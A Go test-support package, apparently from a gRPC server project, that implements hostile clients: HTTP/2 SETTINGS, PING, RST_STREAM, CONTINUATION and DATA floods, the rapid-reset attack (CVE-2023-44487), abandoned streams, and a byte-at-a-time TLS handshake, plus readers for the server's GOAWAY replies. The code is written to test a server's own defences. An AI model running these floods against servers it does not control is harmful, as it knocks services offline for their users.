// Package hostile is the clients of the hostile-client tests (docs/security.md,
// Hostile clients): HTTP/2 floods of frames that carry no call, streams opened and
// abandoned, and TLS handshakes that never finish. Each attack writes until the server
// closes its connection; Outcome reads what the server sent meanwhile.
package hostile

import (
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// H2 is an HTTP/2 attack.
type H2 string

// The HTTP/2 attacks. Each opens with the client preface and an empty SETTINGS.
const (
	SettingsFlood     H2 = "SETTINGS flood"           // SETTINGS frames, one after another
	PingFlood         H2 = "PING flood"               // PING frames
	ResetFlood        H2 = "RST_STREAM flood"         // RST_STREAM on a stream already answered
	ContinuationFlood H2 = "empty CONTINUATION flood" // one header block that never ends, of empty CONTINUATION frames
	EmptyDataFlood    H2 = "empty DATA flood"         // empty DATA frames on an open call
	RapidReset        H2 = "rapid reset"              // calls opened and reset at once (CVE-2023-44487)
	AbandonedStreams  H2 = "abandoned streams"        // calls opened (headers, no end) and never sent another byte
)

// H2Attacks is every HTTP/2 attack.
var H2Attacks = []H2{SettingsFlood, PingFlood, ResetFlood, ContinuationFlood, EmptyDataFlood, RapidReset, AbandonedStreams}

// batch is how many frames one write carries.
const batch = 256

// Run writes the attack on nc until a write fails (the server closed the connection,
// or nc was closed), then returns. method is the gRPC method the calls it opens name.
func (a H2) Run(nc net.Conn, method string) {
	hb := CallHeaders(method)
	var b []byte
	b = append(b, http2.ClientPreface...)
	b = frame(b, http2.FrameSettings, 0, 0, nil)
	switch a {
	case ResetFlood, EmptyDataFlood:
		b = frame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, hb)
		if a == ResetFlood {
			b = frame(b, http2.FrameData, http2.FlagDataEndStream, 1, []byte{0, 0, 0, 0, 0})
		}
	case ContinuationFlood:
		b = frame(b, http2.FrameHeaders, 0, 1, hb[:1])
	}
	if !write(nc, b) {
		return
	}
	if a == AbandonedStreams {
		b = b[:0]
		for id := uint32(1); id < 2*128; id += 2 {
			b = frame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, id, hb)
		}
		if write(nc, b) {
			io.Copy(io.Discard, nc) // and nothing more, until the server closes
		}
		return
	}
	// The same frames again and again (rapid reset's on new streams), built once: the
	// attacker's own CPU stays small beside the node's.
	b = b[:0]
	for range batch {
		switch a {
		case SettingsFlood:
			b = frame(b, http2.FrameSettings, 0, 0, nil)
		case PingFlood:
			b = frame(b, http2.FramePing, 0, 0, make([]byte, 8))
		case ResetFlood:
			b = frame(b, http2.FrameRSTStream, 0, 1, []byte{0, 0, 0, byte(http2.ErrCodeCancel)})
		case ContinuationFlood:
			b = frame(b, http2.FrameContinuation, 0, 1, nil)
		case EmptyDataFlood:
			b = frame(b, http2.FrameData, 0, 1, nil)
		}
	}
	for id := uint32(3); ; {
		if a == RapidReset {
			b = b[:0]
			for range batch {
				b = frame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, id, hb)
				b = frame(b, http2.FrameRSTStream, 0, id, []byte{0, 0, 0, byte(http2.ErrCodeCancel)})
				id += 2
			}
		}
		if !write(nc, b) {
			return
		}
	}
}

func write(nc net.Conn, b []byte) bool {
	nc.SetWriteDeadline(time.Now().Add(30 * time.Second))
	_, err := nc.Write(b)
	return err == nil
}

// frame appends an HTTP/2 frame.
func frame(b []byte, t http2.FrameType, flags http2.Flags, id uint32, p []byte) []byte {
	n := len(p)
	b = append(b, byte(n>>16), byte(n>>8), byte(n), byte(t), byte(flags), byte(id>>24), byte(id>>16), byte(id>>8), byte(id))
	return append(b, p...)
}

// CallHeaders is the header block of a gRPC call of method.
func CallHeaders(method string) []byte {
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, kv := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", method}, {":authority", "x"}, {"content-type", "application/grpc"}} {
		enc.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1]})
	}
	return hb.Bytes()
}

// Outcome reads the server's frames on nc (over TLS, a *tls.Conn) until the connection
// ends or d passes, and returns the code of the last GOAWAY it sent (goAway false:
// none), and whether the connection ended (closed false: still open after d).
func Outcome(nc net.Conn, d time.Duration) (code http2.ErrCode, goAway, closed bool) {
	r := Read(nc, d)
	return r.Code, r.GoAway, r.Closed
}

// Result is what the server sent on a connection, as Read saw it.
type Result struct {
	Code   http2.ErrCode // of the last GOAWAY
	GoAway bool          // a GOAWAY came
	Closed bool          // the connection ended (false: still open at the deadline)
	Frames int           // frames read
	Err    error         // the read that ended it
}

func (r Result) String() string {
	return fmt.Sprintf("GOAWAY %v (%v) after %d frames, closed %v by %v", r.GoAway, r.Code, r.Frames, r.Closed, r.Err)
}

// Read is Outcome with the frames counted and the error that ended the reading.
func Read(nc net.Conn, d time.Duration) (r Result) {
	nc.SetReadDeadline(time.Now().Add(d))
	fr := http2.NewFramer(nil, nc)
	for {
		f, err := fr.ReadFrame()
		var ne net.Error
		switch {
		case errors.As(err, &ne) && ne.Timeout():
			r.Err = err
			return r
		case errors.Is(err, http2.ErrFrameTooLarge):
			continue
		case err != nil:
			r.Closed, r.Err = true, err
			return r
		}
		r.Frames++
		if g, ok := f.(*http2.GoAwayFrame); ok {
			r.Code, r.GoAway = g.ErrCode, true
		}
	}
}

// ClosedWithin reads nc, discarding what comes, until the server closes it or d
// passes; it reports whether the server closed it.
func ClosedWithin(nc net.Conn, d time.Duration) bool {
	nc.SetReadDeadline(time.Now().Add(d))
	_, err := io.Copy(io.Discard, nc)
	var ne net.Error
	return !(errors.As(err, &ne) && ne.Timeout())
}

// ClientHello is the first flight of a Go TLS client (TLS 1.2 and 1.3 offered, ALPN
// h2): what a slow client sends a byte at a time.
func ClientHello() []byte {
	c, s := net.Pipe()
	defer s.Close()
	go func() {
		tls.Client(c, &tls.Config{ServerName: "localhost", NextProtos: []string{"h2", "http/1.1"}, InsecureSkipVerify: true}).Handshake()
		c.Close()
	}()
	var hdr [5]byte
	if _, err := io.ReadFull(s, hdr[:]); err != nil {
		return nil
	}
	body := make([]byte, int(hdr[3])<<8|int(hdr[4]))
	if _, err := io.ReadFull(s, body); err != nil {
		return nil
	}
	return append(hdr[:], body...)
}

// SlowHello sends hello on nc a byte every interval, until all is sent or a write
// fails (the server closed the connection).
func SlowHello(nc net.Conn, hello []byte, interval time.Duration) {
	t := time.NewTicker(interval)
	defer t.Stop()
	for i := range hello {
		if !write(nc, hello[i:i+1]) {
			return
		}
		<-t.C
	}
}
